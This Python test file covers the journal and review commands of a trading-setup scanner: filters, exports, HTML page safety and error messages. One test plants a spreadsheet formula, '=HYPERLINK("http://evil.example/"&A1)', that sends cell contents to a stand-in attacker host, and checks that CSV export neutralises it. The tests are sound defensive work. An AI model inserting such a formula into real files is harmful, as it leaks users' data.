"""``closewatch journal`` and ``closewatch review``, as they are typed while a station runs."""

from __future__ import annotations

import csv
import io
import json
import re
from base64 import b64decode, b64encode
from decimal import Decimal
from hashlib import sha256
from html.parser import HTMLParser
from typing import TYPE_CHECKING

import pytest
from pyarrow import parquet

from scanner.journal.entries import entry_of
from scanner.present.reports.journal_html import Told, page
from scanner.present.reports.journal_report import HEADS, journal_table
from scanner.store import Batch, Said, SeriesKey, SeriesUpdate, Store
from tests.adapters.samples import BAR_CLOSE, HOSTILE_NAMES
from tests.commands.typed import Done, closewatch
from tests.demo_setups import replayed
from tests.journal.samples import DAY, closed, found, one_story, told

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from scanner.events import Event

WON, LOST, ASIDE = (
    found("GANNET"),
    found("FULMAR", at=BAR_CLOSE + DAY, direction="short"),
    found("SKUA", at=BAR_CLOSE + 2 * DAY, aside="cost fails: 0.3, wanted <= 0.1"),
)


@pytest.fixture
def station(tmp_path: Path) -> Iterator[Store]:
    """Keep a station running that has said three setups: one taken, one passed, and one set aside."""
    (tmp_path / "watch.toml").write_text('[station]\nname = "loft"\nstore = "kept.db"\nzone = "Europe/Berlin"\n')
    with Store.open(tmp_path / "kept.db", lambda: BAR_CLOSE) as store:
        say(store, WON, LOST, ASIDE, told(WON, "setup.entered", 1, "open"))
        store.decisions.add(WON.thread, "take", price=Decimal("101.65"), size=Decimal(900), text="late")
        store.decisions.add(LOST.thread, "pass", text="<i>a report</i>; is due")
        say(store, closed(WON, 5, "103.15"), closed(LOST, 9, "102.25", "stopped", None))
        store.decisions.add(WON.thread, "note", text="well held")
        yield store


def say(station: Store, *events: Event) -> None:
    station.commit(Batch(said=[Said(event) for event in events]))


def run(station: Store, *words: str | Path, config: bool = True) -> Done:
    return closewatch(*words, *where(station, config=config))


def where(station: Store, *, config: bool = True) -> list[str | Path]:
    folder = station.database.path.parent
    return ["--config", folder / "watch.toml"] if config else ["--store", station.database.path]


def test_the_journal_is_written_whole_where_no_terminal_shows_it(station: Store) -> None:
    done = run(station, "journal")
    assert (done.code, done.err) == (0, "")
    wide = done.out
    rows = wide.splitlines()[1:4]
    assert rows[0].split()[:3] == ["2026-03-02", "17:00", "GANNET"]
    shown = re.split(" {2,}", wide.splitlines()[0])
    assert shown == [each for each in HEADS if each not in {"setup", "left at"}]  # one setup, and nothing was left
    assert "3 setups: 1 taken, 1 passed, 1 neither." in wide
    assert "broken, entry: entered beyond the plan by more than a tenth of R." in wide
    assert wide.endswith("Local rules and licensed advice come first.\n")


@pytest.mark.parametrize(
    ("words", "instruments"),
    [
        (["--taken"], ["GANNET"]),
        (["--passed"], ["FULMAR"]),
        (["--instrument", "SKUA"], ["SKUA"]),
        (["--setup", "doji_pause"], ["GANNET", "FULMAR", "SKUA"]),
        (["--since", "2026-03-03"], ["FULMAR", "SKUA"]),
        (["--until", "2026-03-03"], ["GANNET", "FULMAR"]),
        (["--since", "2026-03-03", "--until", "2026-03-03"], ["FULMAR"]),
        (["--setup", "inside_bar"], []),
    ],
)
def test_only_what_is_asked_for_is_shown(station: Store, words: list[str], instruments: list[str]) -> None:
    done = run(station, "journal", *words)
    assert done.code == 0
    shown = re.findall(r"^2026-\d\d-\d\d \d\d:\d\d +(\w+)", done.out, re.MULTILINE)
    assert shown == instruments
    assert done.err == ("" if instruments else "No setup matches.\n")


def test_files_hold_the_same_for_programs(station: Store, tmp_path: Path) -> None:
    for suffix in ("json", "csv", "parquet"):
        path = tmp_path / f"out.{suffix}"
        assert run(station, "journal", "--out", path) == Done(0, f"{path}: 3 setups.\n", "")
        assert path.stat().st_mode & 0o777 == 0o600
    listed = json.loads((tmp_path / "out.json").read_bytes())
    won, lost, aside = listed
    assert (won["found"], won["own_price"], won["r"], won["own_r"]) == (
        "2026-03-02T16:00:00Z",
        "101.65",
        "1.50",
        "1.00",
    )
    assert (won["why"], won["notes"], won["broken"]) == ("late", ["well held"], ["beyond_plan", "too_large"])
    assert (lost["decision"], lost["r"], lost["cost_r"], lost["otherwise_r"]) == ("passed", "-1.00", None, "-1.00")
    assert (aside["set_aside"], aside["r"], aside["decision"]) == ("cost fails: 0.3, wanted <= 0.1", None, None)
    table = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8"), newline="")))
    assert [list(row) for row in table] == [list(won)] * 3
    for row, entry in zip(table, listed, strict=True):
        for key, value in entry.items():
            assert row[key] == ("" if value is None else "; ".join(value) if isinstance(value, list) else str(value))
    read = parquet.read_table(tmp_path / "out.parquet").to_pylist()
    assert [row["r"] for row in read] == [Decimal("1.50"), Decimal("-1.00"), None]
    assert read[0]["found"].isoformat() == "2026-03-02T16:00:00+00:00"
    assert read[0]["broken"] == ["beyond_plan", "too_large"]


def test_no_text_of_the_journal_is_a_formula_in_a_spreadsheet(station: Store, tmp_path: Path) -> None:
    for thread, text in ((LOST.thread, '=HYPERLINK("http://evil.example/"&A1)'), (ASIDE.thread, "-2 R, and late")):
        station.decisions.add(thread, "note", text=text)
    assert run(station, "journal", "--out", tmp_path / "out.csv").code == 0
    table = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8"), newline="")))
    assert [row["notes"] for row in table] == [
        "well held",
        '\'=HYPERLINK("http://evil.example/"&A1)',
        "'-2 R, and late",
    ]
    assert table[1]["r"] == "-1.00"  # a number stays one


class Page(HTMLParser):
    """Takes a page apart: its tags, what they point to, and its text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.targets: list[str] = []
        self.handlers: list[str] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.targets += [value or "" for key, value in attrs if key in {"src", "href", "action"}]
        self.handlers += [key for key, _ in attrs if key.startswith("on") or key == "style"]

    def handle_data(self, data: str) -> None:
        self.text += data


def test_the_page_stands_alone_and_tells_all_in_order(station: Store, tmp_path: Path) -> None:
    assert run(station, "journal", "--out", tmp_path / "out.html").code == 0
    text = (tmp_path / "out.html").read_text("utf-8")
    page = Page(text)
    assert page.targets == page.handlers == []
    assert not {"script", "link", "iframe", "form"} & set(page.tags)
    (style,) = re.findall(r"<style>(.*?)</style>", text, re.DOTALL)
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="(.*?)"', text)
    hashed = b64encode(sha256(style.encode()).digest()).decode()
    assert policy.startswith(f"default-src &#x27;none&#x27;; style-src &#x27;sha256-{hashed}&#x27;; img-src data:;")
    assert "prefers-color-scheme: dark" in style
    assert "<i>a report</i>; is due" in page.text  # as text, not as a tag
    assert "i" not in page.tags
    told_of = [
        page.text.index(words) for words in ("setup: break entry", "you took it at 101.65", "closed: ", "well held")
    ]
    entered = page.text.index("entered: ")
    assert sorted([*told_of, entered]) == [told_of[0], entered, *told_of[1:]]
    assert "Journal of loft" in page.text
    assert "Past results, lived or replayed, prove nothing about the future." in page.text


@pytest.mark.parametrize("name", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES)
def test_no_name_breaks_out_of_the_page_or_the_table(name: str) -> None:
    setup = found(name, aside=name, title=name)
    story = one_story(setup, told(setup, "setup.entered", 1, "open", reason=name, orders=name))
    entry = entry_of(story, [])
    shown = Page(page(name, [Told(story, [], entry)], "UTC", {story.id: "a" * 8}))
    plain = Page(page("GANNET", [Told(story, [], entry)], "UTC", {story.id: "a" * 8}))
    assert shown.tags == plain.tags
    assert shown.handlers == shown.targets == []
    lines = journal_table([entry], "UTC", 80)
    assert "\n".join(lines).splitlines() == lines
    assert max(map(len, lines[: lines.index("")])) <= 80
    assert all(line.isprintable() for line in lines)


def test_a_chart_is_drawn_of_what_was_decided_where_the_store_still_has_the_bars(
    station: Store, tmp_path: Path
) -> None:
    recording = replayed()["TERNFERRY"]
    first, second = recording.setups[:2]
    key = SeriesKey("TERNFERRY", recording.timeframe)
    stories = [event for event in recording.events if event.thread in {first.thread, second.thread}]
    end = [event for event in stories if event.thread == first.thread][-1]
    before = [event for event in stories if event.time < end.time]
    station.commit(Batch([SeriesUpdate(key, recording.bars, b"")], said=[Said(each, (), key) for each in before]))
    station.decisions.add(first.thread, "pass")
    station.commit(Batch(said=[Said(each, (), key) for each in stories]))
    done = run(station, "journal", "--instrument", "TERNFERRY", "--out", tmp_path / "out.html", config=False)
    assert done.code == 0, done.err
    targets = Page((tmp_path / "out.html").read_text("utf-8")).targets
    assert len(targets) == 2, "the setup, and how it ended"
    for target in targets:
        kind, drawn = target.split(",")
        assert kind == "data:image/png;base64"
        assert b64decode(drawn).startswith(b"\x89PNG\r\n")


def test_a_review_gives_the_results_of_a_week(station: Store) -> None:
    done = run(station, "review", "week", "--until", "2026-03-04")
    assert (done.code, done.err) == (0, "")
    lines = done.out.splitlines()
    assert lines[0] == "Thu 26 Feb 2026 to Wed 4 Mar 2026 (Berlin)"
    assert max(map(len, lines[:-1])) <= 80
    for line in (
        "setups found  3, 1 of them set aside",
        "taken         1",
        "passed        1",
        "entered       1 by the rules",
        "closed        2 by the rules",
        "With fewer than 20 results nothing can be said.",
        "   1  entered beyond the plan by more than a tenth of R",
        "   1  taken larger than planned",
    ):
        assert line in lines
    (sums,) = [line.split() for line in lines if line.startswith("sum of R")]
    assert sums == ["sum", "of", "R", "+1.50", "+1.00", "-1.00", "+0.50"]
    assert lines[-1].startswith("Not advice and no promise.")
    empty = run(station, "review", "month", "--until", "2025-01-01")
    assert "Nothing was closed, so no result can be shown" in empty.out
    today = run(station, "review", "week")
    assert today.code == 0


@pytest.mark.parametrize(
    ("words", "sentence"),
    [
        (["journal", "--taken", "--passed"], "--taken and --passed exclude each other"),
        (["journal", "--since", "yesterday"], "--since yesterday: write a day such as 2026-03-02"),
        (["journal", "--until", "0001-01-01"], "--until 0001-01-01: write a day"),
        (["journal", "--since", "2026-03-03", "--until", "2026-03-02"], "--since 2026-03-03 is later than --until"),
        (["journal", "--out", "journal.txt"], "--out journal.txt: the name must end in .csv, .json, .parquet, .html"),
        (["journal", "--out", "/nowhere/at/all.csv"], "there is no folder /nowhere/at"),
        (["review", "year"], "closewatch: year: say week or month"),
        (
            ["journal", "--setup", "nosuch"],
            "--setup nosuch: no setup of this name was found; `closewatch setups` lists all",
        ),
        (["review", "week", "--until", "9999-12-31"], "--until 9999-12-31: write a day"),
    ],
)
def test_what_cannot_be_shown_is_one_sentence(station: Store, words: list[str], sentence: str) -> None:
    done = run(station, *words)
    assert (done.code, done.out) == (2, "")
    assert sentence in " ".join(done.err.split())
    assert "Traceback" not in done.err
